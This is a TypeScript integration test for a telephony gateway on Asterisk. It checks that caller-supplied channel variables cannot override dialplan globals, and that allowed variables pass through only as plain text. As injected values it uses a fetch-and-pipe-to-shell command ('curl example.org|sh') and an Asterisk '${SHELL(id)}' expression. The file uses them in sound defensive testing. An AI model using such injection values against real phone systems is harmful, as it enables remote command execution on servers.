import { eventually } from '@dialgate/testing';
import { expect } from 'chai';
import { realAsterisk, startGateway, type Gateway } from './gateway.js';

/** Globals of dialplans in the field that run commands, choose trunks or set Dial's options. */
const GLOBALS = ['MIXMON_POST', 'TRUNK', 'OUT_1', 'DIAL_OPTIONS', 'AMPUSER', 'GOTO_ON_BLINDXFR'];
const OURS = 'the operator’s';
const THEIRS = 'curl example.org|sh';

async function ari(method: string, path: string, body?: unknown): Promise<unknown> {
  const { url, username, password } = realAsterisk();
  const answer = await fetch(`${url}${path}`, {
    method,
    headers: {
      authorization: `Basic ${Buffer.from(`${username}:${password}`).toString('base64')}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  if (!answer.ok) throw new Error(`${method} ${path}: ${String(answer.status)} ${await answer.text()}`);
  return answer.status === 204 ? null : answer.json();
}

/** What the dialplan reads under this name on a channel. */
async function readOn(channel: string, name: string): Promise<string> {
  const { value } = (await ari('GET', `/channels/${channel}/variable?variable=${name}`)) as { value: string };
  return value;
}

/** The channels whose name begins so: for a `Local/` channel both halves. */
async function channelsNamed(prefix: string): Promise<{ id: string; name: string }[]> {
  const channels = (await ari('GET', '/channels')) as { id: string; name: string }[];
  return channels.filter(({ name }) => name.startsWith(prefix));
}

describe('client variables on a real Asterisk whose dialplan has globals', () => {
  before(async () => {
    for (const name of GLOBALS) {
      await ari('POST', `/asterisk/variable?variable=${name}&value=${encodeURIComponent(OURS)}`);
    }
  });
  after(async () => {
    for (const name of GLOBALS) await ari('POST', `/asterisk/variable?variable=${name}&value=`);
  });

  it('would shadow them on both halves of a Local channel: this is what the allow list is for', async () => {
    const variables = Object.fromEntries(GLOBALS.map((name) => [name, THEIRS]));
    const destination = 'context=outbound-ivr&extension=long&priority=1';
    await ari('POST', `/channels?endpoint=${encodeURIComponent('Local/hold@test/n')}&${destination}`, { variables });
    // Asterisk lists both halves a moment before they have their variables.
    const halves = await eventually(async () => {
      const found = await channelsNamed('Local/hold@test');
      const read = await Promise.all(found.flatMap(({ id }) => GLOBALS.map((name) => readOn(id, name))));
      expect(read).to.deep.equal(Array(2 * GLOBALS.length).fill(THEIRS));
      return found;
    });
    await ari('DELETE', `/channels/${halves[0]!.id}`);
  });

  for (const [template, number, named] of [
    ['PJSIP/{number}@trunk', '+33147000002', 'PJSIP/trunk'],
    ['Local/{digits}@test-by-number/n', '+33148000002', 'Local/33148000002@test-by-number'],
  ] as const) {
    describe(`with DIAL_ENDPOINT=${template}`, () => {
      let gateway: Gateway;
      before(async () => {
        gateway = await startGateway(realAsterisk(), { worker: { DIAL_ENDPOINT: template } });
      });
      after(() => gateway.stop());

      it('are refused by name before anybody is called', async () => {
        for (const name of GLOBALS) {
          const answer = await gateway.request('POST', `/interaction/${encodeURIComponent(number)}`, {
            variables: { [name]: THEIRS },
          });
          expect(await answer.json()).to.include({ status: 422, code: 'variable_not_allowed' });
        }
        expect(await gateway.sql('SELECT id FROM calls')).to.deep.equal([]);
      });

      it('reach the dialplan when they are allowed, as text, beside its own globals', async () => {
        const id = await gateway.place(number, { extension: 'long', variables: { DG_ORDER: '${SHELL(id)}' } });
        await gateway.reaches(id, 'answered');
        const channels = await channelsNamed(named);
        expect(channels).to.have.lengthOf(named.startsWith('Local') ? 2 : 1);
        for (const channel of channels) {
          for (const name of GLOBALS) expect(await readOn(channel.id, name), `${channel.name} ${name}`).to.equal(OURS);
          expect(await readOn(channel.id, 'DG_ORDER'), channel.name).to.equal('${SHELL(id)}');
        }
        await gateway.request('POST', `/calls/${id}/hangup`);
        expect(await gateway.ended(id)).to.include({ status: 'completed' });
      });
    });
  }
});
